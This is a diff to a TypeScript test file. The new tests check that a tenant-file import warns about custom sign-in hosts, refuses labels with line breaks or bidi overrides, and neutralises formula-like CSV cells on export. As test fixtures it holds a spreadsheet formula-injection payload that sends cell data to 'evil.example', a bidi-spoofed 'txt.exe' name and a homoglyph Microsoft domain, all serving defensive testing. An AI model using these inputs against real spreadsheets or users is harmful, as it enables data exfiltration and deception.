@@ -1,5 +1,6 @@
 import * as assert from 'node:assert/strict';
-import { parseCsv, readTenantFile, writeTenantFile } from '../../src/config/tenantFile';
+import { readTenantFile, writeTenantFile } from '../../src/config/tenantFile';
+import { parseCsv } from '../../src/csv';
 import { rawFromEntry, TenantEntry, tenantKey } from '../../src/config/tenants';
 import { exportTenants, importTenants } from '../../src/commands/tenantFiles';
 import { actionContext } from '../support/fakeAccount';
@@ -305,7 +306,9 @@ describe('tenant files', () => {
     assert.equal(ui.of('confirm')[0].message, 'Add 1 tenant from "tenants.csv"?');
     assert.match(
       ui.of('confirm')[0].detail ?? '',
-      /To add \(1\):\nGood · global · vscode\n\nNot added \(1\):\nRow 3 \(Moon\): unknown cloud "moon"/,
+      new RegExp(
+        `^To add \\(1\\):\\n• "Good" · global · vscode · client ${APP} · tenant good\\.example\\.com\\n\\nNot added \\(1\\):\\nRow 3 \\(Moon\\): unknown cloud "moon"`,
+      ),
     );
     assert.deepEqual(
       added.map((batch) => batch.map((entry) => entry.label)),
@@ -339,5 +342,86 @@ describe('tenant files', () => {
     assert.deepEqual(JSON.parse(ui.written.get('/tmp/t.json') ?? ''), [
       { label: 'Contoso', tenantId: 'contoso.example.com', clientId: APP, cloud: 'global', authMode: 'clientCredentials' },
     ]);
+  });
+});
+
+describe('a tenant file from someone else cannot steer sign-in unseen', () => {
+  it('the preview names, for each row, both hosts of a custom cloud and a shared credential, each with a warning', async () => {
+    const ui = new ScriptedUserInput([
+      csvFile([
+        `Lab,lab.example.com,${APP},custom,deviceCode,https://graph.attacker.example,https://login.attacker.example:8443,`,
+        `Shared,shared.example.com,${APP},custom,clientCredentials,https://10.0.0.7,https://xn--mcrosoft-i2a.com,true`,
+        `Plain,plain.example.com,${APP},usGov,vscode,,,`,
+      ]),
+      { confirm: false },
+    ]);
+    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('declined') });
+    const lines = (ui.of('confirm')[0].detail ?? '').split('\n');
+    assert.deepEqual(lines, [
+      'To add (3):',
+      `• "Lab" · custom · deviceCode · client ${APP} · tenant lab.example.com`,
+      '  ⚠ Custom cloud: signs in at login.attacker.example:8443 and reads Graph at graph.attacker.example. Add it only if you know these servers.',
+      `• "Shared" · custom · clientCredentials · client ${APP} · tenant shared.example.com`,
+      '  ⚠ Custom cloud: signs in at xn--mcrosoft-i2a.com (an internationalised name: check it letter by letter) and reads Graph at 10.0.0.7 (an IP address). Add it only if you know these servers.',
+      `  ⚠ Uses the client secret or certificate stored for the app ${APP}, shared with its other tenants.`,
+      `• "Plain" · usGov · vscode · client ${APP} · tenant plain.example.com`,
+    ]);
+  });
+
+  it('a label with a line break, a bidi override or over 80 characters refuses its row, and cannot forge a preview line', async () => {
+    const forged = 'Evil\nNot added (0):';
+    const file = JSON.stringify([
+      { label: forged, tenantId: 'a.example.com', clientId: APP },
+      { label: 'Safe\u202etxt.exe', tenantId: 'b.example.com', clientId: APP },
+      { label: 'x'.repeat(81), tenantId: 'c.example.com', clientId: APP },
+      { label: 'Tagged\u{E0041}', tenantId: 'd.example.com', clientId: APP },
+      { label: 'Good', tenantId: 'e.example.com', clientId: APP },
+    ]);
+    const { entries, refused } = readTenantFile(file, 'tenants.json', []);
+    assert.deepEqual(
+      entries.map((entry) => entry.label),
+      ['Good'],
+    );
+    assert.deepEqual(
+      refused.map((row) => [row.row, row.label, row.reason]),
+      [
+        [1, 'Evil Not added (0):', 'The name holds a line break, a control character or an invisible one: type it again without them.'],
+        [2, 'Safe txt.exe', 'The name holds a line break, a control character or an invisible one: type it again without them.'],
+        [3, `${'x'.repeat(39)}…`, 'Enter a name of 1 to 80 characters.'],
+        [4, 'Tagged', 'The name holds a line break, a control character or an invisible one: type it again without them.'],
+      ],
+    );
+    const ui = new ScriptedUserInput([{ file: { name: 'tenants.json', size: file.length, text: file } }, { confirm: false }]);
+    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('declined') });
+    const detail = ui.of('confirm')[0].detail ?? '';
+    assert.equal(detail.split('\n').filter((line) => line.startsWith('Not added')).length, 1, 'only the real "Not added" line');
+  });
+
+  it('Export neutralises formula-like cells, and Import reads back exactly what was exported', () => {
+    const labels = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1 Contoso', '-Fabrikam', '@home', "'quoted", "''twice", 'Plain'];
+    const tenants: TenantEntry[] = labels.map((label, index) => ({
+      label,
+      cloud: 'global',
+      authMode: 'vscode',
+      clientId: APP,
+      tenantId: `t${index}.example.com`,
+    }));
+    const csv = writeTenantFile(tenants, 'out.csv');
+    const cells = parseCsv(csv)
+      .slice(1)
+      .map((row) => row[0]);
+    assert.deepEqual(cells, [
+      `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+      "'+1 Contoso",
+      "'-Fabrikam",
+      "'@home",
+      "''quoted",
+      "'''twice",
+      'Plain',
+    ]);
+    const { entries, refused } = readTenantFile(csv, 'out.csv', []);
+    assert.deepEqual(refused, []);
+    assert.deepEqual(entries, tenants);
+    assert.equal(readTenantFile(`${HEADER}\n'hand written,x.example.com,${APP},,,,`, 'in.csv', []).entries[0].label, "'hand written");
   });
 });
